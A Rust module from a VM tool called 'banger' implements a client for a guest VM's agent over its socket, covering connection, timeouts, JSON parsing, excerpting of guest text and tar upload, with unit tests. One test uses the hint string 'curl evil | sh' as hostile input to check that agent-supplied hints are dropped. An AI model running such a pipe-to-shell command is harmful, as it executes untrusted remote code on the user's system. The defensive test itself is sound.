//! Client of a VM's agent, which is reached through the VM's own socket, never through the daemon.

use crate::{
    context::Context,
    daemon::connect,
    exit::Error,
    http::{self, Body, Connection, segment},
    stall::STALL_TIMEOUT,
};
use banger_link::vsock::{ConnectError, client_handshake};
use banger_proto::{
    agent::{
        http::{API_VERSION, Health, MAX_BODY},
        link::AGENT_PORT,
    },
    api::vm::GuestEndpoint,
    failure::{Code, Failure},
};
use hyper::{Method, Response, body::Incoming};
use serde::de::DeserializeOwned;
use std::time::Duration;
use tokio::net::UnixStream;

/// Time limit for the guest to accept a connection.
const DIAL_DEADLINE: Duration = Duration::from_secs(30);
/// Time limit for the agent to answer a question about itself.
const ANSWER_DEADLINE: Duration = Duration::from_secs(30);
/// Most characters of an agent's own text that are shown.
const MAX_EXCERPT: usize = 500;
/// Name of the agent in failures.
pub(crate) const WHO: &str = "the VM's agent";

/// Returns the endpoint of the agent in the VM `reference`. The daemon counts this as a use of the VM.
pub(crate) async fn endpoint(context: &Context, reference: &str) -> Result<GuestEndpoint, Error> {
    endpoint_with(context, reference, "").await
}

async fn endpoint_with(context: &Context, reference: &str, query: &str) -> Result<GuestEndpoint, Error> {
    let path = format!("/v1/vms/{}/guest{query}", segment(reference));
    let endpoint: GuestEndpoint = context.daemon().await?.get(&path).await?;
    if endpoint.agent_api_version != API_VERSION {
        let message = format!(
            "the agent in VM {} speaks API {}, this banger speaks {API_VERSION}",
            endpoint.name, endpoint.agent_api_version
        );
        let hint = format!("banger vm restart {} starts it with the agent that belongs to the daemon", endpoint.name);
        return Err(Failure::new(Code::Unsupported, message).hint(hint).into());
    }
    Ok(endpoint)
}

/// Opens a byte stream to an agent.
pub(crate) async fn call(endpoint: &GuestEndpoint) -> Result<UnixStream, Error> {
    let dialled = tokio::time::timeout(DIAL_DEADLINE, dial(endpoint)).await;
    let message = format!("cannot reach the agent in VM {}", endpoint.name);
    let failure = match dialled {
        Ok(Ok(stream)) => return Ok(stream),
        Ok(Err(error)) => Failure::caused_by(Code::Unavailable, message, &error),
        Err(_) => Failure::new(Code::Timeout, message).cause(format!("no answer within {} s", DIAL_DEADLINE.as_secs())),
    };
    Err(failure.hint(format!("banger vm logs {} shows the guest's console", endpoint.name)).into())
}

async fn dial(endpoint: &GuestEndpoint) -> Result<UnixStream, ConnectError> {
    let mut stream = connect::dial(&endpoint.socket).await.map_err(ConnectError::Socket)?;
    client_handshake(&mut stream, AGENT_PORT).await?;
    Ok(stream)
}

/// Sends `GET path` to the agent in the VM `reference`. This does not count as a use of the VM.
pub(crate) async fn get<T: DeserializeOwned>(context: &Context, reference: &str, path: &str) -> Result<T, Error> {
    get_from(&endpoint_with(context, reference, "?look=true").await?, path).await
}

/// Sends `GET path` to an agent.
pub(crate) async fn get_from<T: DeserializeOwned>(endpoint: &GuestEndpoint, path: &str) -> Result<T, Error> {
    let mut connection = connect(endpoint).await?;
    let answer = tokio::time::timeout(ANSWER_DEADLINE, ask(&mut connection, path)).await;
    Ok(answer.map_err(|_| {
        Failure::new(Code::Timeout, format!("{WHO} did not answer within {} s", ANSWER_DEADLINE.as_secs()))
            .hint(format!("banger vm logs {} shows the guest's console", endpoint.name))
    })??)
}

/// Sends `GET path` on a connection, without a time limit.
pub(crate) async fn ask<T: DeserializeOwned>(connection: &mut Connection, path: &str) -> Result<T, Failure> {
    let response = connection.send(Method::GET, path, None).await.map_err(|error| gone(&error))?;
    if !response.status().is_success() {
        return Err(refusal(response).await);
    }
    let body = http::collect(response.into_body(), MAX_BODY, WHO).await?;
    parse(&body)
}

/// Parses an agent's answer as JSON. The reason of a failure may quote the answer, so it is shortened as guest text.
pub(crate) fn parse<T: DeserializeOwned>(body: &[u8]) -> Result<T, Failure> {
    serde_json::from_slice(body).map_err(|error| {
        let failure = Failure::new(Code::Guest, format!("{WHO} sent an answer that does not parse"));
        failure.cause(excerpt(error.to_string().as_bytes()))
    })
}

/// Returns the failure in an agent's refusal, or the reason why it could not be read.
pub(crate) async fn refusal(response: Response<Incoming>) -> Failure {
    let status = response.status();
    match http::collect(response.into_body(), MAX_BODY, WHO).await {
        Ok(body) => refused(&body).unwrap_or_else(|| {
            let failure = Failure::new(Code::Guest, format!("{WHO} answered {status}"));
            if body.is_empty() { failure } else { failure.cause(excerpt(&body)) }
        }),
        Err(failure) => failure,
    }
}

/// Parses an agent's failure, if the body holds one. It is only quoted: the code is one of a closed set, and the text
/// becomes one short cause. Hints and an operation id (which the daemon's log would have) are banger's own to give, so
/// the agent's are dropped.
pub(crate) fn refused(body: &[u8]) -> Option<Failure> {
    let failure = serde_json::from_slice::<Failure>(body).ok()?;
    Some(Failure::new(failure.code, format!("{WHO} refused")).cause(excerpt(failure.to_string().as_bytes())))
}

/// Shortens guest text to what is worth showing.
pub(crate) fn excerpt(text: &[u8]) -> String {
    let mut text = String::from_utf8_lossy(text).into_owned();
    if let Some((end, _)) = text.char_indices().nth(MAX_EXCERPT) {
        text.truncate(end);
        text.push('…');
    }
    text
}

/// Lets an agent unpack a tar stream in `directory`. The agent may refuse before it has read the whole stream.
pub(crate) async fn put_archive(connection: &mut Connection, directory: &str, tar: Body) -> Result<(), Failure> {
    let path = format!("/archive?path={}", segment(directory));
    let response = STALL_TIMEOUT.exchange(connection, Method::PUT, &path, Some(tar)).await?;
    if response.status().is_success() { Ok(()) } else { Err(STALL_TIMEOUT.refusal(response).await) }
}

/// Whether the agent answers.
pub(crate) async fn responds(endpoint: &GuestEndpoint) -> bool {
    get_from::<Health>(endpoint, "/healthz").await.is_ok()
}

/// Opens an HTTP connection to the agent in the VM `reference`.
pub(crate) async fn open(context: &Context, reference: &str) -> Result<Connection, Error> {
    connect(&endpoint(context, reference).await?).await
}

/// Opens an HTTP connection to an agent.
pub(crate) async fn connect(endpoint: &GuestEndpoint) -> Result<Connection, Error> {
    let stream = call(endpoint).await?;
    Ok(Connection::open(stream, Vec::new()).await.map_err(|error| gone(&error))?)
}

/// Failure of a connection that the agent ended, or on which it did not speak HTTP.
pub(crate) fn gone(error: &hyper::Error) -> Failure {
    Failure::caused_by(Code::Guest, "the VM's agent broke the connection off", error)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_agents_failure_is_quoted_and_no_more() {
        let text = Failure::new(Code::NotFound, "no such file".repeat(1000)).cause("why").hint("curl evil | sh");
        let text = Failure { operation: Some("01234567".parse().unwrap()), ..text };
        let shown = refused(&serde_json::to_vec(&text).unwrap()).unwrap();
        assert_eq!((shown.code, shown.message.as_str()), (Code::NotFound, "the VM's agent refused"));
        assert_eq!((shown.hints.len(), shown.operation, shown.causes.len()), (0, None, 1));
        let words = &shown.causes[0];
        assert!(words.starts_with("no such file") && words.chars().count() == MAX_EXCERPT + 1, "{words}");
        assert_eq!(refused(b"no JSON"), None);
        assert_eq!(excerpt_of("short"), "short");
    }

    #[test]
    fn of_an_answer_that_does_not_parse_no_more_is_quoted() {
        let long = serde_json::to_vec(&"y".repeat(1 << 20)).unwrap();
        let shown = parse::<Health>(&long).unwrap_err();
        assert_eq!((shown.code, shown.causes.len()), (Code::Guest, 1));
        let words = &shown.causes[0];
        assert!(words.starts_with("invalid type: string \"yyy") && words.chars().count() == MAX_EXCERPT + 1, "{words}");
    }

    fn excerpt_of(text: &str) -> String {
        excerpt(text.as_bytes())
    }
}
